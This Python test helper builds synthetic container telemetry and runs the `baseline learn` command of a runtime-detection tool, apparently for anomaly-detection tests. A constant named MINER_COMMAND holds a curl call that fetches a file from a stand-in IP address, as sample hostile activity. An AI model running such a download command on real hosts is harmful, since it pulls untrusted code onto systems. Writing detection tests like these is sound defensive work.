"""Makes what the tests of `tidewaiter baseline` share: telemetry to learn from, and ways to run the commands."""

from pathlib import Path

from click.testing import CliRunner, Result
from hunting import CONTAINER, POLICY, STRANGER, docker, falco, lines, pulled, story

from tidewaiter.cli import main

OURS = "registry.corp.example/shop/web:1"
MINER_COMMAND = "curl http://203.0.113.7/x"


def baseline(*arguments: object) -> Result:
    """Run one of the commands in this process; anything but an exit status is a failure."""
    result = CliRunner().invoke(main, ["baseline", *map(str, arguments)], env={"COLUMNS": "100"})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    return result


def telemetry(first_s: int = 0, *, hours: int = 1) -> bytes:
    """A trusted container that does the same every hour, and a stranger that misbehaves once."""
    ours = [
        pulled(OURS, first_s),
        docker("create", first_s + 1, STRANGER, "web", OURS),
        docker("start", first_s + 2, STRANGER, "web", OURS),
    ]
    for hour in range(hours):
        second = first_s + hour * 3600 + 60
        ours += [falco(second, "serve --port 8080", STRANGER), falco(second + 1, f"backup {hour}", STRANGER)]
    return lines([*story(), falco(5, "id", CONTAINER), *ours])


def learned(folder: Path, *options: object, hours: int = 1) -> Path:
    """A baseline of that telemetry."""
    (folder / "events.jsonl").write_bytes(telemetry(hours=hours))
    (folder / "policy.yaml").write_text(POLICY)
    result = baseline("learn", "events.jsonl", "--policy", "policy.yaml", "-o", "baseline.jsonl", *options)
    assert result.exit_code == 0, result.output
    return folder / "baseline.jsonl"
